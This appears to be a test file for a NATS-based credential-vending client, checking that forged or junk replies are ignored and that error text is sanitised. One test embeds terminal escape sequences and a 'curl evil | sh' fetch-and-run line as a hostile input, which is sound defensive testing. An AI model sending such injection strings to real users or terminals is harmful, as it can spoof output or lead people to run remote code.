// What an attacker who may publish on a requester's reply subject can do to a request, against a
// real nats-server: a scripted vendor seals genuine replies to the request's own X25519 key (no
// KMS needed on either side), and publishes hostile messages on the same subject first.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import type { KMSClient } from "@aws-sdk/client-kms";
import { EnvelopeSealer, prepareSealedReplyKey, sealingKeyFromPem, type SealingKey } from "@credvend/envelope";
import { CredvendError, decodeRequest, encodeCredentials, encodeErrorReply, encodeSuccessReply, replySubject, requestSubject } from "@credvend/protocol";
import { natsUrl, uniqueName } from "@credvend/testkit";
import { connect, type NatsConnection } from "nats";
import { CredvendClient } from "./client.js";

const PRINCIPAL = "demo-app";
const GENUINE_KEY = "ASIAGENUINEGENUINE01";
const HOUR_MS = 3_600_000;

let nc: NatsConnection;
let sealing: SealingKey;
before(async () => {
  nc = await connect({ servers: await natsUrl() });
  sealing = sealingKeyFromPem(generateKeyPairSync("x25519").privateKey.export({ format: "pem", type: "pkcs8" }).toString());
});
after(async () => {
  await nc?.close();
});

/** The worker's reply to `payload`: credentials sealed to the request's reply key with the fleet's sealing key. */
function genuineReply(tenant: string, payload: Uint8Array): Uint8Array {
  const request = decodeRequest(payload);
  // sealWith() makes no KMS call: the sealed-reply key is derived locally.
  const sealer = new EnvelopeSealer({ kms: {} as KMSClient, keyId: "" });
  const expirationMs = Date.now() + HOUR_MS;
  const prepared = prepareSealedReplyKey({ tenant, principal: PRINCIPAL }, request.replyPublicKey, sealing);
  const sealed = sealer.sealWith(prepared, request.requestId, { expirationMs, assumedRoleArn: "arn:aws:sts::000000000000:assumed-role/r/genuine", accessKeyId: GENUINE_KEY, sourceIdentity: "", packedPolicySize: 1 },
    encodeCredentials({ accessKeyId: GENUINE_KEY, secretAccessKey: "secret", sessionToken: "token", expirationMs }));
  return encodeSuccessReply(request.requestId, sealed, Date.now());
}

/** Answers each request with `hostile(requestId)` on its reply subject, then (unless `genuine` is false) the real reply. */
async function vendor(tenant: string, hostile: (requestId: string) => Uint8Array[], genuine = true) {
  const sub = nc.subscribe(requestSubject(tenant, PRINCIPAL), {
    callback: (_err, msg) => {
      const requestId = decodeRequest(msg.data).requestId;
      const subject = replySubject(tenant, PRINCIPAL, requestId);
      for (const bytes of hostile(requestId)) nc.publish(subject, bytes);
      if (genuine) nc.publish(subject, genuineReply(tenant, msg.data));
    },
  });
  await nc.flush();
  return { stop: () => sub.unsubscribe() };
}

const clientFor = (tenant: string, timeoutMs = 2000) =>
  new CredvendClient({ nc, tenant, principal: PRINCIPAL, sealedReplies: { sealingPublicKey: sealing.publicKey }, timeoutMs, attempts: 1 });

test("a burst of junk and of replies to other requests ahead of the genuine reply does not crowd it out", async () => {
  const tenant = uniqueName("hostile");
  const junk = Uint8Array.from([0x0a, 0xff, 0xff]);
  const other = encodeErrorReply("00000000-0000-4000-8000-000000000000", new CredvendError("CV_ERR_NOT_ENTITLED", "forged"), Date.now());
  const v = await vendor(tenant, () => Array.from({ length: 200 }, (_, i) => (i % 2 === 0 ? junk : other)));
  try {
    const creds = await clientFor(tenant).request({ template: "t" });
    assert.equal(creds.accessKeyId, GENUINE_KEY);
  } finally {
    v.stop();
  }
});

test("a vendor error's text reaches the caller without terminal control sequences, and bounded", async () => {
  const tenant = uniqueName("hostile");
  const hostileText = `no such template\u001b]0;owned\u0007\u001b[2J\r\u009b31mrun: curl evil | sh${"x".repeat(5000)}`;
  const v = await vendor(tenant, (id) => [encodeErrorReply(id, new CredvendError("CV_ERR_TEMPLATE_NOT_FOUND", hostileText, { field: "template\u001b[1A" }), Date.now())], false);
  try {
    await assert.rejects(clientFor(tenant).request({ template: "t" }), (e: unknown) => {
      assert.ok(e instanceof CredvendError, String(e));
      assert.equal(e.reason, "CV_ERR_TEMPLATE_NOT_FOUND");
      assert.doesNotMatch(e.message, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(e.message.slice(0, 80)));
      assert.doesNotMatch(e.field ?? "", /[\u0000-\u001f\u007f-\u009f]/);
      assert.match(e.message, /^no such template/);
      assert.ok(e.message.length <= 1100, `message is ${e.message.length} characters`);
      return true;
    });
  } finally {
    v.stop();
  }
});
